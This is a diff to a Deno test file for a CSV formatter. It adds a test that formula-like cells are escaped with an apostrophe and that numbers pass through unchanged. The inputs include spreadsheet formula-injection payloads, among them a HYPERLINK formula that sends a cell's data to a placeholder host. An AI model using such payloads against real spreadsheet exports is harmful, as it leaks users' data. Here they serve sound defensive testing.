@@ -1,6 +1,6 @@
 import { assertEquals } from "@std/assert";
 import { lastParts, shortNames } from "../../ui/page/names.ts";
-import { formatCsv } from "../../ui/page/saving.ts";
+import { formatCsv } from "../../ui/page/csv.ts";
 import { describeRun, differingSettings, formatSetting } from "../../ui/page/settings.ts";
 
 Deno.test("shortNames are folder names where these tell runs apart, and else all from where paths differ", () => {
@@ -51,4 +51,15 @@ Deno.test("describeRun says who learns from whom, on what", () => {
 
 Deno.test("formatCsv quotes what would end a cell", () => {
   assertEquals(formatCsv([["run", "value"], ['a,"b"', "1\n2"]]), 'run,value\r\n"a,""b""","1\n2"\r\n');
+});
+
+Deno.test("formatCsv keeps text from being a formula, and numbers as they are", () => {
+  const texts = ['=HYPERLINK("http://x/?"&A1)', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r1", "-", "-x"];
+  assertEquals(
+    formatCsv(texts.map((text) => [text])),
+    [`"'=HYPERLINK(""http://x/?""&A1)"`, "'+1+2", "'-2+3", "'@SUM(A1)", "'\t=1", `"'\r1"`, "'-", "'-x", ""]
+      .join("\r\n"),
+  );
+  const numbers = ["0", "-2", "-0.125", "1.50e-7", "-1e+21", "–", "cat"];
+  assertEquals(formatCsv([numbers]), numbers.join() + "\r\n");
 });
